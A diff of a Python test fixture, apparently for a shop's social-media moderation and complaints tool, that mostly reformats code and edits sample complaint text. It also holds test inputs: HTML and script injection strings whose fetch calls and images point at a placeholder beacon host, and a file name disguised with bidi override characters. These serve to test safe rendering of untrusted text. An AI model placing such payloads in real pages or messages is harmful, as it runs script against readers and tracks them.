@@ -71,7 +71,7 @@ COMPLAINTS = Policy(
     "COMPLAINTS", "Complaints handling", 1, date(2026, 7, 1),
     (
         Clause("COMPLAINTS-2.1", "2.1", "First answer", "A complaint gets a first answer within two business hours."),
-        Clause("COMPLAINTS-4.2", "4.2", "Making good", "Offer a refund, a repair or a replacement; the customer chooses."),
+        Clause("COMPLAINTS-4.2", "4.2", "Making good", "Offer a refund, a repair or a new one; the customer chooses."),
     ),
     gates=("Reply", "Resolve"),
 )  # fmt: skip
@@ -88,7 +88,8 @@ PEOPLE = (
 
 HOSTILE = (
     f"<img src=http://{BEACON}/a.png onerror=\"fetch('http://{BEACON}/b')\"> ![pic](http://{BEACON}/c.png) "
-    f"[click me](http://{BEACON}/d) http://{BEACON}/e <script>fetch('http://{BEACON}/f')</script> :material/home: :red[x]"
+    f"[click me](http://{BEACON}/d) http://{BEACON}/e <script>fetch('http://{BEACON}/f')</script> "
+    ":material/home: :red[x]"
 )
 TURNED = "invoice \u202egnp.exe\u202c and \u2066isolated\u2069 \u200fwords\u0007 with a bell"
 LONG = "My parcel is late and nobody answers. " * 270
@@ -119,14 +120,15 @@ class World:
         self.fixed = now
         self.store = TableStore(MemoryDb())
         self.herald = Herald(
-            store=self.store, sources={}, outlets={"facebook_page": _Outlet(), "instagram": _Outlet()}, archive=_Archive(),
-            wake=lambda delivery: None, secrets=lambda ref: Credentials(()), clock=self.now,
+            store=self.store, sources={}, outlets={"facebook_page": _Outlet(), "instagram": _Outlet()},
+            archive=_Archive(), wake=lambda delivery: None, secrets=lambda ref: Credentials(()), clock=self.now,
         )  # fmt: skip
         self.accounts = [
             Account("facebook_page", "1001", "Kelp & Clay", BRAND, ZONE, "Mon-Sun 00:00-24:00"),
             Account("instagram", "2002", "kelpandclay", BRAND, ZONE, "Mon-Sun 00:00-24:00"),
         ]
-        for thing in (*self.accounts, *PEOPLE, MOD, COMPLAINTS, Targets({"default": 240, "complaint": 120, "decide": 60})):
+        targets = Targets({"default": 240, "complaint": 120, "decide": 60})
+        for thing in (*self.accounts, *PEOPLE, MOD, COMPLAINTS, targets):
             self.store.save(thing)
         self._number = 0
 
@@ -136,15 +138,16 @@ class World:
     # ------------------------------------------------------------ what people say
 
     def say(
-        self, author: str, text: str, *, minutes_ago: float = 0, platform: str = "facebook_page", kind: Kind = Kind.COMMENT
-    ) -> Message:
+        self, author: str, text: str, *, minutes_ago: float = 0, platform: str = "facebook_page",
+        kind: Kind = Kind.COMMENT,
+    ) -> Message:  # fmt: skip
         """A message arrives; nothing has judged it yet."""
         self._number += 1
         account = next(account for account in self.accounts if account.platform == platform)
         at = self.now() - timedelta(minutes=minutes_ago)
         event = Event(
-            platform, account.account_id, f"9{self._number:04d}", f"u{self._number}", text, kind, Change.CREATED, "77", at,
-            author_name=author,
+            platform, account.account_id, f"9{self._number:04d}", f"u{self._number}", text, kind, Change.CREATED, "77",
+            at, author_name=author,
         )  # fmt: skip
         self.store.apply(event, BRAND, at)
         found = self.store.message(event.message_id)
@@ -154,8 +157,8 @@ class World:
 
     def judge(
         self, message: Message, action: Action, *, rule: str | None = None, clause: ClauseRef | None = None,
-        rationale: str = "", found: tuple[str, ...] = (), labels: tuple[str, ...] = (), severity: Severity = Severity.LOW,
-        hidden: bool | None = None, by: str = "rules",
+        rationale: str = "", found: tuple[str, ...] = (), labels: tuple[str, ...] = (),
+        severity: Severity = Severity.LOW, hidden: bool | None = None, by: str = "rules",
     ) -> Message:  # fmt: skip
         """A decision is committed on it, as the flow commits one."""
         at = min(self.now(), message.created_at + timedelta(seconds=2))
@@ -195,9 +198,9 @@ class World:
             raise LookupError(case.id)
         return held
 
-    def complaint(self, author: str, text: str, *, due_in: float, ago: float = 60, owner: str = "", **where: object) -> Case:
+    def complaint(self, author: str, text: str, *, due_in: float, ago: float = 60, owner: str = "") -> Case:
         """A complaint that waits for an answer."""
-        message = self.say(author, text, minutes_ago=ago, **where)  # type: ignore[arg-type]
+        message = self.say(author, text, minutes_ago=ago)
         held = self.judge(
             message, Action.ALLOW, rule="complaint: order or delivery", clause=ClauseRef("COMPLAINTS", "2.1", 1),
             rationale="The customer says that something we sold or sent is not right.", labels=("complaint",),
@@ -215,13 +218,13 @@ class World:
 
     def furnish(self) -> None:
         """A morning at the shop."""
-        self.complaint("Mara Quill", "My teapot came cracked, box and all. I want a refund, please.", due_in=-14, ago=134)
+        self.complaint("Mara Quill", "My teapot came cracked, box and all. A refund, please.", due_in=-14, ago=134)
         self.complaint("J. Whitfield", "Order 4471 is late again. Third time you promise Tuesday.", due_in=6, ago=114)
-        self.complaint("Odile Brandt", "The glaze on two bowls is broken off after one wash?", due_in=22, ago=98, owner="tomas")
+        self.complaint("Odile Brandt", "The glaze on two bowls is broken after one wash.", due_in=22, ago=98, owner="tomas")
         asked = self.judge(
             self.say("northside_kitchen", "Is the ash-grey platter back in Perth before Christmas?", minutes_ago=40,
                      platform="instagram"),
-            Action.ALLOW, rule="question: stock", labels=("question",), rationale="Asks whether something can be bought.",
+            Action.ALLOW, rule="question: stock", labels=("question",), rationale="Asks whether we have something.",
         )  # fmt: skip
         self.open(asked, Work.ANSWER, "question", due_in=71)
         self.complaint(f"<b>Eve</b> ![i](http://{BEACON}/who.png)", HOSTILE, due_in=95, ago=25)
